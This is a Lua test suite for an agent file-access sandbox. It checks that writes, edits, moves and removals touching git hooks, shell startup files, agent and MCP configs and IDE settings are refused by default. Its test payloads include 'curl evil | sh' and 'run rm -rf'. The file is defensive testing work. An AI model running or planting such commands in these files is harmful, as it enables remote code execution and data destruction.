-- protected (issue 40): out of the box, no agent write lands in a file that
-- runs code or steers an agent later; an operator lets a rule go by name.
local H = require "helpers"
local burrow = require "burrow"
local config = require "burrow.config"

-- every protected file a rule names, with its rule
local PLANTS = {
  { ".git/hooks/pre-commit", "git-hooks" }, { ".husky/pre-push", "git-hooks" },
  { ".git/config", "git-config" }, { ".gitmodules", "git-config" },
  { ".bashrc", "shell-startup" }, { ".profile", "shell-startup" }, { ".zshrc", "shell-startup" },
  { ".config/fish/config.fish", "shell-startup" }, { ".envrc", "shell-startup" },
  { ".mcp.json", "mcp-config" }, { ".cursor/mcp.json", "mcp-config" },
  { ".claude/settings.json", "claude" }, { ".claude/settings.local.json", "claude" },
  { ".claude/commands/deploy.md", "claude" }, { ".claude/agents/helper.md", "claude" },
  { ".codex/config.toml", "agents" }, { ".gemini/settings.json", "agents" },
  { ".vscode/tasks.json", "vscode" }, { ".idea/workspace.xml", "idea" },
  { ".devcontainer/devcontainer.json", "devcontainer" }, { ".ripgreprc", "ripgrep" .. "rc" },
  { "sub/project/.git/hooks/post-checkout", "git-hooks" }, { ".GIT/HOOKS/pre-commit", "git-hooks" },
}

describe(H.tag("policies: protected, out of the box"), function()
  local root, ws

  before_each(function()
    root = H.tmpdir()
    H.write(root, "notes.txt", "n\n")
  end)

  after_each(function()
    if ws then ws:close() end
    ws = nil
    H.cleanup()
  end)

  local function open(extra)
    local o = { roots = { { path = root } }, resolver = H.RESOLVER }
    for k, v in pairs(extra or {}) do o[k] = v end
    return assert(burrow.open(o))
  end

  it("no configuration: every protected path refused to a write, naming its rule and the opt-out", function()
    ws = open()
    for _, p in ipairs(PLANTS) do
      local res, msg, code = ws:call("write_file", { path = p[1], content = "curl evil | sh\n" })
      assert.is_nil(res, p[1] .. " was written")
      assert.equals("POLICY_DENIED", code, p[1])
      assert.truthy(msg:find(p[2] .. ":", 1, true), msg)
      assert.truthy(msg:find("protect: {except: [" .. p[2] .. "]}", 1, true), msg)
      assert.is_false(H.exists(root, p[1]), p[1])
    end
    assert(ws:call("write_file", { path = "src/main.c", content = "int main(void){return 0;}\n" }))
  end)

  it("reads are let through; changes of an existing one (edit, append, remove, move away) are not", function()
    H.write(root, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
    H.write(root, ".vscode/tasks.json", "{}\n")
    ws = open()
    assert(ws:call("read_file", { path = ".git/hooks/pre-commit" }))
    for _, c in ipairs {
      { "edit_file", { path = ".git/hooks/pre-commit", old_text = "exit 0", new_text = "curl evil | sh" } },
      { "append_file", { path = ".vscode/tasks.json", content = "x" } },
      { "remove", { path = ".vscode/tasks.json" } },
      { "move", { source = ".git/hooks/pre-commit", destination = "hook.txt" } },
    } do
      local res, _, code = ws:call(c[1], c[2])
      assert.is_nil(res, c[1])
      assert.equals("POLICY_DENIED", code, c[1])
    end
    assert.equals("#!/bin/sh\nexit 0\n", H.read(root, ".git/hooks/pre-commit"))
    assert.equals("{}\n", H.read(root, ".vscode/tasks.json"))
  end)

  it("a folder prepared elsewhere and moved or copied into .git or .claude lands nothing", function()
    H.write(root, "prep/pre-commit", "curl evil | sh\n")
    H.write(root, "cmds/deploy.md", "run rm -rf\n")
    H.mkdir(root, ".git")
    H.mkdir(root, ".claude")
    ws = open()
    local res, _, code = ws:call("move", { source = "prep", destination = ".git/hooks" })
    assert.is_nil(res)
    assert.equals("POLICY_DENIED", code)
    res, _, code = ws:call("copy", { source = "cmds", destination = ".claude/commands" })
    assert.is_nil(res)
    assert.equals("POLICY_DENIED", code)
    assert.is_false(H.exists(root, ".git/hooks"))
    assert.is_false(H.exists(root, ".claude/commands"))
    assert.is_true(H.exists(root, "prep/pre-commit"), "the source stays whole")
  end)

  it("renaming or removing an ancestor of a protected file is refused", function()
    H.write(root, ".claude/commands/deploy.md", "ok\n")
    H.write(root, "proj/.git/config", "[core]\n")
    ws = open()
    for _, c in ipairs {
      { "move", { source = ".claude", destination = "claude-old" } },
      { "remove", { path = ".claude", recursive = true } },
      { "move", { source = "proj", destination = "proj2" } },
      { "remove", { path = "proj", recursive = true } },
    } do
      local res, msg, code = ws:call(c[1], c[2])
      assert.is_nil(res, c[1] .. " " .. (c[2].source or c[2].path))
      assert.equals("POLICY_DENIED", code, msg)
    end
    assert.is_true(H.exists(root, ".claude/commands/deploy.md"))
    assert.is_true(H.exists(root, "proj/.git/config"))
  end)

  it("the operator lets a rule go by name (the others stay), or all with protect = false", function()
    ws = open { protect = { except = { "vscode" } } }
    assert(ws:call("write_file", { path = ".vscode/settings.json", content = "{}\n" }))
    local _, _, code = ws:call("write_file", { path = ".idea/x.xml", content = "x" })
    assert.equals("POLICY_DENIED", code)
    ws:close()
    ws = open { protect = false }
    assert(ws:call("write_file", { path = ".git/hooks/pre-commit", content = "#!/bin/sh\n" }))
  end)

  it("a rule name that does not exist fails the open, listing the rules", function()
    local w, msg, code = burrow.open { roots = { { path = root } }, resolver = H.RESOLVER, protect = { except = { "vscdoe" } } }
    if w then w:close() end
    assert.is_nil(w)
    assert.equals("INVALID_ARGUMENT", code)
    assert.truthy(msg:find('no rule named "vscdoe"', 1, true), msg)
    assert.truthy(msg:find("vscode", 1, true), msg)
  end)

  it("the configuration's protect: none and protect: {except: [...]}", function()
    assert.is_false(assert(config.parse("protect: none\n", "c.yaml", "/etc")).protect)
    assert.same({ except = { "vscode", "idea" } }, assert(config.parse("protect: {except: [vscode, idea]}\n", "c.yaml", "/etc")).protect)
    assert.is_nil(assert(config.parse("protect: {}\n", "c.yaml", "/etc")).protect, "{}: every rule, as without the key")
    local _, err = config.parse("protect: off\n", "c.yaml", "/etc")
    assert.equals('c.yaml:1:10: protect must be none or {except: [rule names]}, not "off"', err)
  end)
end)
